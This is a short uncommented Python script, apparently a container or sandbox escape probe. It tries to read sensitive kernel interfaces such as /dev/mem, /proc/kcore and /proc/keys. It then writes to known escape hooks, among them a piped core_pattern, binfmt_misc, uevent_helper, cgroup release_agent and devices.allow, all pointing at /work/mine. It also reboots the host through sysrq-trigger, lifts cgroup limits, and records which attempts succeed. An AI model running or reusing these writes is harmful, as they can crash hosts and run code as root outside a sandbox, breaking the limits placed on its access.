import os

won = []


def attempt(name, work):
    try:
        work()
        won.append(name)
    except OSError:
        pass


def read(path):
    with open(path, "rb") as file:
        if not file.read(1):
            raise OSError("nothing in it")


def write(path, text):
    with open(path, "w") as file:
        file.write(text)


for path in ("/dev/kmsg", "/dev/mem", "/dev/port", "/proc/kcore", "/proc/kmsg", "/proc/kpageflags", "/proc/sched_debug",
             "/proc/timer_list", "/proc/keys", "/sys/firmware/acpi/tables/DSDT", "/sys/kernel/debug/sched/debug",
             "/sys/kernel/security/lsm", "/sys/kernel/tracing/trace"):
    attempt(path, lambda: read(path))
for path, text in {
    "/proc/sysrq-trigger": "b",
    "/proc/self/oom_score_adj": "-1000",
    "/proc/1/oom_score_adj": "1000",
    "/proc/sys/kernel/core_pattern": "|/work/mine",
    "/proc/sys/kernel/hostname": "mine",
    "/proc/sys/vm/drop_caches": "3",
    "/proc/sys/net/ipv4/ip_forward": "1",
    "/proc/sys/fs/binfmt_misc/register": ":mine:M::xx::/work/mine:",
    "/proc/self/uid_map": "0 0 1",
    "/proc/self/loginuid": "0",
    "/sys/kernel/uevent_helper": "/work/mine",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes": "-1",
    "/sys/fs/cgroup/memory/cgroup.procs": "1",
    "/sys/fs/cgroup/cpu/cpu.shares": "100000",
    "/sys/fs/cgroup/pids/pids.max": "max",
    "/sys/fs/cgroup/devices/devices.allow": "a",
    "/sys/fs/cgroup/memory.max": "max",
    "/sys/fs/cgroup/pids.max": "max",
    "/sys/fs/cgroup/cgroup.procs": "1",
    "/sys/fs/cgroup/release_agent": "/work/mine",
    "/sys/fs/cgroup/memory/release_agent": "/work/mine",
    "/sys/fs/cgroup/memory/notify_on_release": "1",
}.items():
    attempt(path, lambda: write(path, text))
for folder in ("/sys/fs/cgroup/mine", "/sys/fs/cgroup/memory/mine", "/sys/kernel/config/mine"):
    attempt(folder, lambda: os.mkdir(folder))
print(won)
